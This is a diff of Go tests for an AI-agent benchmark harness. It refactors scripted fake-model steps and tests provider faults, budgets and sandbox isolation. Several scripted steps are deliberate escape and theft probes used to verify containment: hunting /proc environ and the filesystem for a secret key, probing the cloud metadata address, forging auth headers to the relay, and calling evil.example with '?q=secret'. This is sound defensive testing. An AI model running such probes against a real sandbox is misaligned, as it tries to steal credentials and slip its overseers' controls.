@@ -17,6 +17,7 @@ import (
 	"sync"
 	"sync/atomic"
 	"testing"
+	"time"
 
 	"github.com/securebench/sbench/internal/test/containerdtest"
 	"github.com/securebench/sbench/internal/test/must"
@@ -36,25 +37,34 @@ type agentRun struct {
 	record   record.Record // the last one
 }
 
-// dead begins a script in which the provider is gone from the first generation on.
-const dead = "dead\n"
+// steps is a provider's script.
+type steps = []providertest.Step
 
-func runAgent(t *testing.T, agent, pack, task, script, config string, code int) agentRun {
+// greet is the script that solves create-file.
+var greet = steps{{Shell: "echo 'hello, sandbox' > greeting.txt"}, {Say: "The file is there."}}
+
+// greetAfter is greet with a fault before its first answer. Without a kind of fault, the provider is gone
+// from the first generation on.
+func greetAfter(f providertest.Fault) steps {
+	first := greet[0]
+	first.Faults = []providertest.Fault{f}
+	return steps{first, greet[1]}
+}
+
+func runAgent(t *testing.T, agent, pack, task string, script steps, config string, code int) agentRun {
 	t.Helper()
 	dir, err := filepath.Abs("../../benchmarks/" + pack)
 	must.Do(t, err)
 	return runAgentOn(t, agent, dir, task, script, config, code)
 }
 
-func runAgentOn(t *testing.T, agent, pack, task, script, config string, code int) agentRun {
+func runAgentOn(t *testing.T, agent, pack, task string, script steps, config string, code int) agentRun {
 	t.Helper()
 	h := newHost(t)
-	script, dies := strings.CutPrefix(script, dead)
-	provider, err := providertest.New(realKey, script)
-	must.Do(t, err)
+	provider := providertest.New(realKey, script...)
 	server := httptest.NewServer(provider)
 	t.Cleanup(server.Close)
-	if dies {
+	if slices.Contains(script[0].Faults, providertest.Fault{}) {
 		server.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			if r.Method == http.MethodPost {
 				_ = server.Listener.Close()
@@ -132,14 +142,18 @@ const ownAgent = "own"
 // TestCustomAgent: an agent that the tester brings reaches its model through the relay, and has no key.
 func TestCustomAgent(t *testing.T) {
 	const passed, none = "passed ", "error infrastructure"
-	tests := []struct{ name, pack, task, script, config, want string }{
-		{"workspace", "terminal-task-smoke", "terminal-task-smoke/create-file", "shell env; grep -r sk-real / --include=*.py --exclude-dir=proc --exclude-dir=sys 2>/dev/null; ls -ld /opt/agents; touch /opt/agents/x\n" + greet, "", passed},
-		{"code", "code-completion-smoke", "code-completion-smoke/starter", "shell printf 'def add_numbers(a, b):\\n    return a + b\\n' >candidate.py; cat task.json >&2\nsay Done.", "", passed},
-		{"patch", "repo-patch-smoke", "repo-patch-smoke/slug", "shell sed 's/\\[^a-z0-9\\]\", \"-\", title.lower())/[^a-z0-9]+\", \"-\", title.lower()).strip(\"-\")/' /testbed/textkit/words.py >/tmp/words.py && cp /tmp/words.py /testbed/textkit/\nsay Mended.", "", passed},
-		{"cut", "terminal-task-smoke", "terminal-task-smoke/create-file", "cut 2\n" + greet, "", none},
-		{"patch, out of time", "repo-patch-smoke", "repo-patch-smoke/slug", "shell echo '# mended' >>/testbed/textkit/words.py; sleep 600", ", timeout_seconds: 8", "failed producer_timeout"},
+	tests := []struct {
+		name, pack, task string
+		script           steps
+		config, want     string
+	}{
+		{"workspace", "terminal-task-smoke", "terminal-task-smoke/create-file", append(steps{{Shell: "env; grep -r sk-real / --include=*.py --exclude-dir=proc --exclude-dir=sys 2>/dev/null; ls -ld /opt/agents; touch /opt/agents/x"}}, greet...), "", passed},
+		{"code", "code-completion-smoke", "code-completion-smoke/starter", steps{{Shell: "printf 'def add_numbers(a, b):\\n    return a + b\\n' >candidate.py; cat task.json >&2"}, {Say: "Done."}}, "", passed},
+		{"patch", "repo-patch-smoke", "repo-patch-smoke/slug", steps{{Shell: "sed 's/\\[^a-z0-9\\]\", \"-\", title.lower())/[^a-z0-9]+\", \"-\", title.lower()).strip(\"-\")/' /testbed/textkit/words.py >/tmp/words.py && cp /tmp/words.py /testbed/textkit/"}, {Say: "Mended."}}, "", passed},
+		{"cut", "terminal-task-smoke", "terminal-task-smoke/create-file", greetAfter(providertest.Fault{Cut: 2}), "", none},
+		{"patch, out of time", "repo-patch-smoke", "repo-patch-smoke/slug", steps{{Shell: "echo '# mended' >>/testbed/textkit/words.py; sleep 600"}}, ", timeout_seconds: 8", "failed producer_timeout"},
 		{"money is used up", "terminal-task-smoke", "terminal-task-smoke/create-file", greet, ", max_cost_usd: 10, prices: {input: 1000000, output: 1000000}", "failed max_cost_usd_exceeded"},
-		{"model that gives up", "terminal-task-smoke", "terminal-task-smoke/create-file", "say I cannot.", "", "failed checker_failed"},
+		{"model that gives up", "terminal-task-smoke", "terminal-task-smoke/create-file", steps{{Say: "I cannot."}}, "", "failed checker_failed"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -243,8 +257,7 @@ func TestOwnDescriptor(t *testing.T) {
 	must.Do(t, err)
 	pack, err := filepath.Abs("../../benchmarks/terminal-task-smoke")
 	must.Do(t, err)
-	provider, err := providertest.New(realKey, "think Let me see.\nshell echo \"home is $HOME\"\n"+greet)
-	must.Do(t, err)
+	provider := providertest.New(realKey, append(steps{{Think: "Let me see.", Shell: `echo "home is $HOME"`}}, greet...)...)
 	server := httptest.NewServer(provider)
 	t.Cleanup(server.Close)
 	h.env = append(h.env, "MY_KEY="+realKey)
@@ -297,10 +310,14 @@ func agents() []string {
 
 // TestAgentsSolve: the agents solve a task of each kind of sandbox.
 func TestAgentsSolve(t *testing.T) {
-	tasks := []struct{ pack, task, script, trace, said string }{
-		{"terminal-task-smoke", "terminal-task-smoke/create-file", "shell echo 'hello, sandbox' > greeting.txt\nsay The file is there.", "greeting.txt", "The file is there."},
-		{"code-completion-smoke", "code-completion-smoke/starter", "write /workspace/candidate.py <<END\ndef add_numbers(a, b):\n    return a + b\nEND\nsay Done.", "candidate.py", "candidate.py"},
-		{"repo-patch-smoke", "repo-patch-smoke/slug", "shell sed 's/\\[^a-z0-9\\]\", \"-\", title.lower())/[^a-z0-9]+\", \"-\", title.lower()).strip(\"-\")/' /testbed/textkit/words.py >/tmp/words.py && cp /tmp/words.py /testbed/textkit/\nsay Mended.", "words.py", "$ "},
+	tasks := []struct {
+		pack, task  string
+		script      steps
+		trace, said string
+	}{
+		{"terminal-task-smoke", "terminal-task-smoke/create-file", greet, "greeting.txt", "The file is there."},
+		{"code-completion-smoke", "code-completion-smoke/starter", steps{{Write: &providertest.File{Path: "/workspace/candidate.py", Content: "def add_numbers(a, b):\n    return a + b\n"}}, {Say: "Done."}}, "candidate.py", "candidate.py"},
+		{"repo-patch-smoke", "repo-patch-smoke/slug", steps{{Shell: "sed 's/\\[^a-z0-9\\]\", \"-\", title.lower())/[^a-z0-9]+\", \"-\", title.lower()).strip(\"-\")/' /testbed/textkit/words.py >/tmp/words.py && cp /tmp/words.py /testbed/textkit/"}, {Say: "Mended."}}, "words.py", "$ "},
 	}
 	for _, agent := range agents() {
 		for _, tt := range tasks {
@@ -324,8 +341,6 @@ func TestAgentsSolve(t *testing.T) {
 	}
 }
 
-const greet = "shell echo 'hello, sandbox' > greeting.txt\nsay The file is there."
-
 // dialects returns an agent for each of the providers' APIs; all agents with SBENCH_SOAK.
 func dialects() []string {
 	if os.Getenv("SBENCH_SOAK") != "" || userns.Inside() {
@@ -339,22 +354,24 @@ func dialects() []string {
 func TestAgentsProvider(t *testing.T) {
 	const passed, failed, none = "passed ", "failed ", "error infrastructure"
 	tests := []struct {
-		name, script, config, want string
-		but                        map[string]string // by agent
+		name         string
+		script       steps
+		config, want string
+		but          map[string]string // by agent
 	}{
-		{"slow", "delay 100ms\n" + greet, "", passed, nil},
-		{"cut once", "cut 2\n" + greet, "", passed, nil},
-		{"429 once", "fail 429\n" + greet, "", passed, map[string]string{"codex": none}},
-		{"429 for ever", "fail 429 forever after=0\n" + greet, ", timeout_seconds: 15", none, nil},
-		{"500 once", "fail 500\n" + greet, "", passed, nil},
-		{"500 for ever", "fail 500 forever\n" + greet, ", timeout_seconds: 15", none, nil},
-		{"dead", dead + greet, ", timeout_seconds: 15", none, nil},
-		{"garbled once", "garble\n" + greet, "", passed, map[string]string{"opencode": none, "qwen_code": none}},
-		{"garbled for ever", "garble forever\n" + greet, ", timeout_seconds: 15", none, nil},
+		{"slow", steps{{Shell: greet[0].Shell, Delay: 100 * time.Millisecond}, greet[1]}, "", passed, nil},
+		{"cut once", greetAfter(providertest.Fault{Cut: 2}), "", passed, nil},
+		{"429 once", greetAfter(providertest.Fault{Status: 429}), "", passed, map[string]string{"codex": none}},
+		{"429 for ever", greetAfter(providertest.Fault{Status: 429, Forever: true}), ", timeout_seconds: 15", none, nil},
+		{"500 once", greetAfter(providertest.Fault{Status: 500}), "", passed, nil},
+		{"500 for ever", greetAfter(providertest.Fault{Status: 500, Forever: true}), ", timeout_seconds: 15", none, nil},
+		{"dead", greetAfter(providertest.Fault{}), ", timeout_seconds: 15", none, nil},
+		{"garbled once", greetAfter(providertest.Fault{Garble: true}), "", passed, map[string]string{"opencode": none, "qwen_code": none}},
+		{"garbled for ever", greetAfter(providertest.Fault{Garble: true, Forever: true}), ", timeout_seconds: 15", none, nil},
 		{"requests are used up", greet, ", max_requests: 1, timeout_seconds: 60", failed + "max_requests_exceeded", nil},
-		{"tokens are used up", "tokens in=100 out=100\n" + greet, ", max_total_tokens: 150, timeout_seconds: 60", failed + "max_total_tokens_exceeded", nil},
-		{"model that gives up", "say I cannot.", "", failed + "checker_failed", nil},
-		{"model that hangs", "shell tail -f /dev/null", ", timeout_seconds: 6", failed + "producer_timeout", nil},
+		{"tokens are used up", steps{{Shell: greet[0].Shell, Usage: providertest.Usage{Input: 100, Output: 100}}, greet[1]}, ", max_total_tokens: 150, timeout_seconds: 60", failed + "max_total_tokens_exceeded", nil},
+		{"model that gives up", steps{{Say: "I cannot."}}, "", failed + "checker_failed", nil},
+		{"model that hangs", steps{{Shell: "tail -f /dev/null"}}, ", timeout_seconds: 6", failed + "producer_timeout", nil},
 	}
 	for i, agent := range dialects() {
 		for j, tt := range tests {
@@ -382,8 +399,7 @@ func TestAgentsProvider(t *testing.T) {
 // TestAgentsFindNoKey: a model looks everywhere in a sandbox for the key, and for everything that it must not
 // have. All that it finds goes to the test's provider.
 func TestAgentsFindNoKey(t *testing.T) {
-	hunt := `shell <<END
-cat /proc/*/environ /proc/*/cmdline /proc/*/mountinfo 2>/dev/null | tr '\0' '\n' | grep -E 'sk-rea[l]|opera[t]or|/hidden|candidates.jso[n]l' ; echo environ done
+	hunt := steps{{Shell: `cat /proc/*/environ /proc/*/cmdline /proc/*/mountinfo 2>/dev/null | tr '\0' '\n' | grep -E 'sk-rea[l]|opera[t]or|/hidden|candidates.jso[n]l' ; echo environ done
 grep -rsE 'sk-rea[l]-0123456789' /opt/sbench/home /workspace /tmp /etc /root /home /var /run 2>/dev/null; echo grep done
 touch /opt/sbench/agent/evil 2>&1 | grep -o 'Read-only file system'; ls /opt/sbench
 ls /opt/sbench/home/.. /workspace/.. | sort | uniq -c | head -40
@@ -392,9 +408,7 @@ import socket
 for a in (('127.0.0.1', 22), ('169.254.169.254', 80), ('10.0.0.1', 443)):
     try: socket.create_connection(a, 3); print('REA' + 'CHED', a)
     except OSError as e: print(a, e)
-s = socket.create_connection(('127.0.0.1', 8099)); s.sendall(b'GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer forged\r\nx-api-key: forged\r\n\r\n'); print(s.recv(4000))"
-END
-say Nothing to be found.`
+s = socket.create_connection(('127.0.0.1', 8099)); s.sendall(b'GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer forged\r\nx-api-key: forged\r\n\r\n'); print(s.recv(4000))"`}, {Say: "Nothing to be found."}}
 	for _, agent := range agents() {
 		t.Run(agent, func(t *testing.T) {
 			t.Parallel()
@@ -450,8 +464,10 @@ func (r agentRun) egress(t *testing.T) []egressLine {
 // TestAgentsReachNothingElse: a host that is not allowed is refused and logged, a hosted
 // tool is removed from the request and logged, and the run goes on.
 func TestAgentsReachNothingElse(t *testing.T) {
-	script := `shell python3 -c "import urllib.request as u; u.urlopen('https://evil.example/?q=secret')" 2>&1 | tail -1; echo 'hello, sandbox' > greeting.txt
-say The file is there.`
+	script := steps{
+		{Shell: `python3 -c "import urllib.request as u; u.urlopen('https://evil.example/?q=secret')" 2>&1 | tail -1; ` + greet[0].Shell},
+		greet[1],
+	}
 	for _, agent := range agents() {
 		t.Run(agent, func(t *testing.T) {
 			t.Parallel()
@@ -502,8 +518,8 @@ func TestAgentsTogether(t *testing.T) {
 			var wg sync.WaitGroup
 			for i := range both {
 				wg.Go(func() {
-					both[i] = runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", fmt.Sprintf(
-						"shell for d in /tmp /opt/sbench/home /workspace; do touch $d/left-by-%d; done; sleep 3; ls /tmp /opt/sbench/home /workspace\n%s", i, greet), "", 0)
+					both[i] = runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", append(steps{{Shell: fmt.Sprintf(
+						"for d in /tmp /opt/sbench/home /workspace; do touch $d/left-by-%d; done; sleep 3; ls /tmp /opt/sbench/home /workspace", i)}}, greet...), "", 0)
 				})
 			}
 			wg.Wait()
